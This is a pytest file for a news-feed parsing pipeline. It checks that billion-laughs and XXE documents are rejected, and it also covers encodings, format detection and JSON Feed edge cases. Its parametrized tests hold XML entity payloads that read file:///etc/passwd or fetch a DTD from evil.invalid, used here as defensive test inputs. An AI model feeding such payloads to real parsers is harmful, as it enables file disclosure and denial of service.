"""Hostile XML, encodings, options, format detection, JSON Feed edge cases
and the rejection vocabulary."""
import io
import json
import pathlib
import time
import tracemalloc

import feedparser
import pytest

from pipeline.formats import FORMATS, FeedRejected, ParsedFeed, parse_document
from pipeline.formats.safety import decode_body

from .helpers import fixture_bytes, fixture_doc, make_doc, rss

PASSWD = pathlib.Path('/etc/passwd')


def rejected(doc) -> FeedRejected:
    with pytest.raises(FeedRejected) as info:
        parse_document(doc)
    return info.value


def all_output_text(thing) -> str:
    if isinstance(thing, FeedRejected):
        return ' '.join([str(thing), thing.reason, thing.detail, thing.excerpt])
    return repr(thing)


# ------------------------------------------------------------ hostile XML

def passwd_markers():
    if not PASSWD.exists():
        return ['root:x:0:0']
    lines = [l for l in PASSWD.read_text(errors='replace').splitlines() if l]
    return ['root:x:0:0'] + lines[:3]


def test_billion_laughs_rejected_fast_and_small():
    doc = fixture_doc('billion_laughs.xml')
    tracemalloc.start()
    start = time.perf_counter()
    exc = rejected(doc)
    elapsed = time.perf_counter() - start
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert exc.reason == 'unsafe xml'
    assert "entity 'lol1' expands other entities" in exc.detail
    assert elapsed < 1.0
    assert peak < 5 * 1024 * 1024
    assert 'lollollol' not in all_output_text(exc)
    assert len(exc.excerpt) <= 500


def test_xxe_rejected_and_never_resolved():
    exc = rejected(fixture_doc('xxe.xml'))
    assert exc.reason == 'unsafe xml'
    assert exc.detail == "external entity 'x' (SYSTEM)"
    for marker in passwd_markers():
        assert marker not in all_output_text(exc)


@pytest.mark.parametrize('subset,problem', [
    # declarations on their own lines (what feedparser's own regex sees) ...
    ('\n  <!ENTITY x SYSTEM "file:///etc/passwd">\n', "external entity 'x'"),
    # ... and on the DOCTYPE line (what it does not see)
    ('<!ENTITY x SYSTEM "file:///etc/passwd">', "external entity 'x'"),
    ('<!ENTITY x PUBLIC "-//X//Y" "file:///etc/passwd">', "external entity 'x'"),
    ('<!ENTITY % p SYSTEM "http://evil.invalid/x.dtd"> %p;', "parameter entity 'p'"),
    ('<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">', "entity 'b' expands"),
    ("<!ENTITY a 'x'><!ENTITY b '%a;'>", "entity 'b' expands"),
    ('<!ENTITY big "' + 'x' * 5000 + '">', "entity 'big' is 5000 characters"),
    ('<!entity x SYSTEM "file:///etc/passwd">', "external entity 'x'"),
    ('<!ENTITY x>', 'unreadable'),
    ('<!-- ] > --><!ENTITY x SYSTEM "file:///etc/passwd">', "external entity 'x'"),
    ('<!ENTITY q "]>"><!ENTITY x SYSTEM "file:///etc/passwd">', "external entity 'x'"),
    (''.join(f'<!ENTITY e{i} "v">' for i in range(100)), '100 ENTITY declarations'),
])
def test_unsafe_entity_variants(subset, problem):
    body = ('<?xml version="1.0"?>\n<!DOCTYPE rss [' + subset + ']>\n'
            + rss('<item><title>&x;</title></item>', decl=False))
    exc = rejected(make_doc(body))
    assert exc.reason == 'unsafe xml'
    assert problem in exc.detail
    for marker in passwd_markers():
        assert marker not in all_output_text(exc)


def test_doctype_hidden_behind_a_decoy_in_a_comment():
    body = ('<?xml version="1.0"?>\n<!-- <!DOCTYPE decoy> --><!DOCTYPE rss '
            '[<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
            + rss('<item><title>&x;</title></item>', decl=False))
    exc = rejected(make_doc(body))
    assert exc.reason == 'unsafe xml'


def test_entity_check_stays_linear_on_many_doctypes():
    body = rss('<item><title>A</title><description><![CDATA['
               + '<!DOCTYPE x [ y ]> <!DOCTYPE z "' * 20000
               + ']]></description></item>')
    start = time.perf_counter()
    p = parse_document(make_doc(body))
    assert time.perf_counter() - start < 2.0
    assert p.entries[0].title == 'A'


def test_simple_literal_entity_is_allowed():
    body = ('<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY copy "&#169;">\n'
            '<!ENTITY org "Example Org">]>\n'
            + rss('<item><title>&copy; 2025 &org;</title><guid>g</guid></item>',
                  decl=False))
    p = parse_document(make_doc(body))
    assert p.entries[0].title == '© 2025 Example Org'
    # feedparser's prolog regexes only see declarations that start a line,
    # so this one falls back to its loose parser (a bozo warning) but reads
    # the same text
    assert len(p.warnings) <= 1


def test_external_dtd_without_entities_is_fine():
    body = ('<?xml version="1.0" encoding="ISO-8859-1"?>\n'
            '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
            ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
            + rss('<item><title>One</title><link>http://x.example/1</link></item>',
                  decl=False, version='0.91'))
    p = parse_document(make_doc(body))
    assert p.feed.format == 'rss091'
    assert p.entries[0].title == 'One'


def test_entity_text_inside_cdata_after_root_is_not_a_declaration():
    body = rss('<item><title>XML tips</title><description><![CDATA[Never write '
               '<!ENTITY x SYSTEM "file:///etc/passwd"> in a feed.]]>'
               '</description></item>')
    p = parse_document(make_doc(body))
    assert 'Never write <!ENTITY x SYSTEM' in p.entries[0].summary


def test_feedparser_alone_neither_expands_nor_resolves():
    """Documents what feedparser 6.0.14 itself does with the two fixtures
    (our pre-check means it never sees them in the pipeline)."""
    for name, marker in (('billion_laughs.xml', '&lol9;'), ('xxe.xml', '&x;')):
        r = feedparser.parse(io.BytesIO(fixture_bytes(name)),
                             sanitize_html=False, resolve_relative_uris=False)
        assert r.bozo
        text = r.entries[0].summary
        assert marker in text and 'lollol' not in text
        for m in passwd_markers():
            assert m not in repr(r)


def test_body_that_is_a_path_is_not_read_from_disk():
    """feedparser.parse(b'/etc/passwd') would open the file; we hand it a
    BytesIO and the body is not a feed anyway."""
    exc = rejected(make_doc(b'/etc/passwd'))
    assert exc.reason == 'not a feed'
    assert exc.excerpt == '/etc/passwd'
    for marker in passwd_markers():
        assert marker not in all_output_text(exc)


# ---------------------------------------------------------------- encodings

def test_mixed_utf8_with_stray_cp1252_bytes():
    """feedparser alone reads this whole document as iso-8859-2 (0x9d is
    undefined in windows-1252) and garbles every UTF-8 character."""
    good = 'Café “Zürich” naïve — ok'
    body = rss(f'<item><title>{good}</title><description>@</description>'
               '</item>').encode('utf-8').replace(
        b'@', b'bad \x93quotes\x94 and \x9d byte')
    p = parse_document(make_doc(body))
    e = p.entries[0]
    assert e.title == good
    assert e.summary == 'bad “quotes” and \x9d byte'
    assert p.warnings == ('encoding: declared utf-8 but 3 byte(s) were not '
                          'valid; read them as windows-1252',)
    fp = feedparser.parse(io.BytesIO(body), sanitize_html=False,
                          resolve_relative_uris=False)
    assert fp.entries[0].title != good  # what we avoid


def test_latin1_declared_reads_as_windows_1252():
    body = ('<?xml version="1.0" encoding="ISO-8859-1"?>'
            '<rss version="2.0"><channel><title>T</title><item><title>'
            ).encode('ascii') + b'Caf\xe9 \x93quoted\x94' + \
        b'</title></item></channel></rss>'
    p = parse_document(make_doc(body))
    assert p.entries[0].title == 'Café “quoted”'
    assert p.warnings == ()


def test_http_charset_used_when_body_is_not_utf8():
    body = ('<?xml version="1.0"?><rss version="2.0"><channel><title>T</title>'
            '<item><title>Привет</title></item></channel></rss>').encode('koi8-r')
    p = parse_document(make_doc(body, headers={'Content-Type':
                                               'application/rss+xml; charset=KOI8-R'}))
    assert p.entries[0].title == 'Привет'


def test_valid_utf8_wins_over_a_wrong_http_charset():
    body = rss('<item><title>Ærø – “quoted”</title></item>')
    p = parse_document(make_doc(body, headers={
        'content-type': 'text/xml; charset=iso-8859-1'}))
    assert p.entries[0].title == 'Ærø – “quoted”'


@pytest.mark.parametrize('codec', ['utf-16', 'utf-16-le', 'utf-16-be', 'utf-8-sig'])
def test_bom_and_wide_encodings(codec):
    text = rss('<item><title>Ünïcödé “wide”</title></item>').replace(
        'encoding="utf-8"', f'encoding="{codec.replace("-sig", "")}"')
    p = parse_document(make_doc(text.encode(codec)))
    assert p.entries[0].title == 'Ünïcödé “wide”'


def test_leading_whitespace_before_xml_declaration_is_tolerated():
    p = parse_document(make_doc('\n\n  ' + rss('<item><title>A</title></item>')))
    assert p.entries[0].title == 'A' and p.warnings == ()


def test_decode_body_never_emits_replacement_characters():
    body = bytes(range(256)) * 4
    d = decode_body(body, {})
    assert '\ufffd' not in d.text and d.encoding == 'utf-8+cp1252'


# ------------------------------------------------------------------ options

def test_options_override_publisher_language_timezone():
    p = parse_document(fixture_doc('rss20_wire.xml', publisher='Reuters',
                                   language='pt', timezone='America/Bahia'))
    assert (p.feed.publisher, p.feed.language, p.feed.timezone) == \
        ('Reuters', 'pt', 'America/Bahia')
    assert p.feed.title == 'Wire Desk (fixture)'  # the document's own title
    p = parse_document(fixture_doc('jsonfeed11.json', publisher='Prairie Dispatch',
                                   language='es', timezone='America/Chicago'))
    assert (p.feed.publisher, p.feed.language, p.feed.timezone) == \
        ('Prairie Dispatch', 'es', 'America/Chicago')


def test_language_option_also_overrides_entry_languages():
    body = ('<?xml version="1.0" encoding="utf-8"?>'
            '<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="en"><title>T</title>'
            '<entry xml:lang="fr"><title>Bonjour</title><id>1</id></entry>'
            '<entry><title>Hello</title><id>2</id></entry></feed>')
    p = parse_document(make_doc(body))
    assert p.feed.language == 'en'
    assert [e.language for e in p.entries] == ['fr', None]
    p = parse_document(make_doc(body, language='de'))
    assert p.feed.language == 'de'
    assert [e.language for e in p.entries] == [None, None]


def test_rss_item_dc_language():
    body = rss('<item><title>Hola</title><dc:language>es</dc:language></item>'
               '<item><title>Hi</title></item>',
               channel='<title>T</title><language>en</language>').replace(
        '<rss version="2.0">',
        '<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">')
    p = parse_document(make_doc(body))
    assert [e.language for e in p.entries] == ['es', None]


def test_publisher_falls_back_to_link_host_then_feed_host():
    body = rss('<item><title>A</title></item>',
               channel='<link>https://www.paper.example.com/news</link>')
    p = parse_document(make_doc(body))
    assert p.feed.title is None
    assert p.feed.publisher == 'www.paper.example.com'
    p = parse_document(make_doc(rss('<item><title>A</title></item>', channel=''),
                                location='https://feeds.other.example/rss'))
    assert p.feed.publisher == 'feeds.other.example'
    p = parse_document(make_doc(rss('<item><title>A</title></item>', channel=''),
                                location='/data/feeds/local.xml'))
    assert p.feed.publisher == '/data/feeds/local.xml'


def test_content_language_header_is_the_fallback_language():
    p = parse_document(make_doc(rss('<item><title>A</title></item>'),
                                headers={'Content-Language': 'nl'}))
    assert p.feed.language == 'nl'
    p = parse_document(fixture_doc('jsonfeed10.json',
                                   headers={'Content-Language': 'en-CA'}))
    assert p.feed.language == 'en-CA'


# ------------------------------------------------------------ RSS/Atom detail

def test_guid_not_rewritten_and_relative_link_resolved():
    body = rss('<item><title>A</title><guid>12345</guid><link>/a/1.html</link></item>')
    p = parse_document(make_doc(body, location='https://news.example/rss.xml',
                                headers={'Content-Location': 'https://news.example/'}))
    e = p.entries[0]
    assert e.guid == '12345'
    assert e.link == 'https://news.example/a/1.html'
    # a local file has no base to resolve against
    p = parse_document(make_doc(body, location='/srv/feeds/x.xml'))
    assert p.entries[0].link == '/a/1.html'


def test_longest_content_wins_and_summary_kept_when_distinct():
    body = rss('<item><title>A</title><description>Short teaser.</description>'
               '<content:encoded><![CDATA[<p>The full story, much longer.</p>]]>'
               '</content:encoded></item>').replace(
        '<rss version="2.0">',
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">')
    e = parse_document(make_doc(body)).entries[0]
    assert e.summary == 'Short teaser.'
    assert e.content == '<p>The full story, much longer.</p>'


def test_html_is_not_sanitized():
    body = rss('<item><title>A</title><description>&lt;p style="x"&gt;Hi'
               '&lt;script&gt;x()&lt;/script&gt;&lt;/p&gt;</description></item>')
    e = parse_document(make_doc(body)).entries[0]
    assert e.summary == '<p style="x">Hi<script>x()</script></p>'


@pytest.mark.parametrize('root,expected', [
    ('<rss version="0.92"><channel><title>T</title><item><title>A</title></item>'
     '</channel></rss>', 'rss092'),
    ('<rss version="0.91"><channel><title>T</title><item><title>A</title></item>'
     '</channel></rss>', 'rss091'),
    ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
     'xmlns="http://my.netscape.com/rdf/simple/0.9/"><channel><title>T</title>'
     '</channel><item><title>A</title><link>http://x.example/</link></item>'
     '</rdf:RDF>', 'rss090'),
    ('<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>T</title>'
     '<entry><title>A</title><issued>2025-03-04T10:00:00Z</issued></entry></feed>',
     'atom03'),
    ('<feed xmlns="http://www.w3.org/2005/Atom"><title>T</title>'
     '<entry><title>A</title></entry></feed>', 'atom10'),
])
def test_format_vocabulary(root, expected):
    p = parse_document(make_doc('<?xml version="1.0"?>' + root))
    assert p.feed.format == expected and p.feed.format in FORMATS
    assert p.entries[0].title == 'A'


def test_atom03_issued_is_published():
    p = parse_document(make_doc(
        '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title>T</title>'
        '<entry><title>A</title><issued>2025-03-04T10:00:00Z</issued>'
        '<modified>2025-03-04T11:00:00Z</modified></entry></feed>'))
    e = p.entries[0]
    assert (e.published_raw, e.updated_raw) == ('2025-03-04T10:00:00Z',
                                                '2025-03-04T11:00:00Z')


def test_rss_without_version_is_read_as_rss20_with_a_warning():
    p = parse_document(make_doc('<rss><channel><title>T</title><item><title>A'
                                '</title></item></channel></rss>'))
    assert p.feed.format == 'rss20'
    assert p.warnings == ("format: feedparser reports 'rss', read as rss20",)


def test_valid_feed_with_zero_entries():
    p = parse_document(make_doc(rss(channel='<title>Quiet</title>')))
    assert isinstance(p, ParsedFeed)
    assert p.entries == () and p.rejections == () and p.warnings == ()
    assert p.feed.title == 'Quiet'


def test_truncated_feed_keeps_the_entries_it_has():
    body = rss('<item><title>A</title><guid>a</guid></item>'
               '<item><title>B</title><guid>b</guid></item>')
    p = parse_document(make_doc(body[:body.index('<item><title>B') + 20]))
    assert [e.guid for e in p.entries][:1] == ['a']
    assert p.warnings and p.warnings[0].startswith('bozo: ')


# ----------------------------------------------------------------- rejected

def test_broken_channel_without_entries_is_parse_error():
    exc = rejected(make_doc('<?xml version="1.0"?><rss version="2.0"><channel>'
                            '<title>Broken & cut</title><link>https://x.exa'))
    assert exc.reason == 'parse error'
    assert 'no entries recovered' in exc.detail


@pytest.mark.parametrize('body,reason', [
    (b'', 'empty body'),
    (b'   \r\n\t  ', 'empty body'),
    ('\ufeff  \n'.encode('utf-8'), 'empty body'),
    (b'Service Unavailable', 'not a feed'),
    (b'<?xml version="1.0"?><error><code>429</code><message>Slow down'
     b'</message></error>', 'not a feed'),
    (b'<html><head><title>404 Not Found</title></head><body>nope</body></html>',
     'not a feed'),
    (b'{"status": "ok", "articles": []}', 'not a feed'),
    (b'[1, 2, 3]', 'not a feed'),
    (b'{"version": "https://example.org/v1", "items": []}', 'not a feed'),
    (b'{"broken json', 'not a feed'),
    (b'{"version": "https://jsonfeed.org/version/1.1", "items": [', 'parse error'),
    (b'{"version": "https://jsonfeed.org/version/1", "items": {"a": 1}}',
     'parse error'),
    (b'[' * 100000 + b']' * 100000, 'not a feed'),
])
def test_rejection_vocabulary(body, reason):
    exc = rejected(make_doc(body))
    assert exc.reason == reason
    assert isinstance(exc.detail, str) and exc.detail
    assert len(exc.excerpt) <= 500


def test_excerpt_is_bounded_and_decoded():
    body = ('<html><head><title>Wall</title></head><body>' + 'é' * 5000
            + '</body></html>').encode('utf-8')
    exc = rejected(make_doc(body))
    assert exc.reason == 'not a feed'
    assert len(exc.excerpt) == 500 and 'éé' in exc.excerpt


# ---------------------------------------------------------------- JSON Feed

def jsonfeed(items, **feed):
    data = {'version': 'https://jsonfeed.org/version/1.1', 'title': 'J',
            'home_page_url': 'https://j.example/', 'items': items}
    data.update(feed)
    return make_doc(json.dumps(data), location='https://j.example/feed.json')


def test_jsonfeed_unreadable_items_become_rejections_keeping_positions():
    p = parse_document(jsonfeed([{'id': 'a', 'title': 'A'}, 'oops', ['x'],
                                 {'id': 'd', 'title': 'D'}]))
    assert [(e.position, e.guid) for e in p.entries] == [(0, 'a'), (3, 'd')]
    assert [(r.entry_key, r.stage, r.reason) for r in p.rejections] == [
        ('https://j.example/feed.json#1', 'parse', 'parse error'),
        ('https://j.example/feed.json#2', 'parse', 'parse error')]
    assert p.rejections[0].source == 'https://j.example/feed.json'
    assert p.rejections[0].detail == 'JSON Feed item 1 is a str, not an object'
    assert p.rejections[0].excerpt == '"oops"'
    assert p.rejections[1].detail == 'JSON Feed item 2 is a list, not an object'


def test_jsonfeed_odd_values():
    p = parse_document(jsonfeed([
        {'id': 42, 'title': {'not': 'text'}, 'external_url': 'https://elsewhere.example/x',
         'content_text': 'Body', 'authors': [{'url': 'https://a.example'}, 'Plain Name'],
         'language': 'fr-CA'},
        {},
    ]))
    a, b = p.entries
    assert a.guid == '42' and a.title is None
    assert a.link == 'https://elsewhere.example/x'
    assert a.author == 'Plain Name'
    assert a.language == 'fr-CA'
    assert (b.guid, b.title, b.link, b.content, b.author) == (None,) * 5
    assert p.rejections == ()


def test_jsonfeed_without_items_and_unknown_version():
    p = parse_document(make_doc(json.dumps(
        {'version': 'https://jsonfeed.org/version/2', 'title': 'Future'})))
    assert p.entries == ()
    assert p.feed.format == 'jsonfeed11'
    assert p.warnings == (
        "format: unknown JSON Feed version 'https://jsonfeed.org/version/2', "
        "read as 1.1", 'jsonfeed: no "items" array')


def test_jsonfeed_publisher_fallback_and_cp1252_bytes():
    body = (b'{"version": "https://jsonfeed.org/version/1", '
            b'"home_page_url": "https://www.harbour.example/", '
            b'"items": [{"id": "1", "title": "Caf\xe9 \x93open\x94"}]}')
    p = parse_document(make_doc(body))
    assert p.feed.publisher == 'www.harbour.example'
    assert p.entries[0].title == 'Café “open”'
    assert p.warnings and p.warnings[0].startswith('encoding: ')


# ------------------------------------------------------------------- speed

def test_throughput_is_feedparser_bound():
    items = ''.join(
        f'<item><title>Story {i}</title><link>https://x.example/a/{i}</link>'
        f'<guid isPermaLink="false">g{i}</guid>'
        f'<pubDate>Tue, 04 Mar 2025 10:00:00 +0000</pubDate>'
        f'<description>&lt;p&gt;{"word " * 60}&lt;/p&gt;</description></item>'
        for i in range(1000))
    doc = make_doc(rss(items), headers={'Content-Type': 'application/rss+xml'})
    start = time.perf_counter()
    p = parse_document(doc)
    elapsed = time.perf_counter() - start
    assert len(p.entries) == 1000
    assert [e.position for e in p.entries] == list(range(1000))
    assert elapsed < 2.0  # ~0.15 s on one core; generous for shared CI
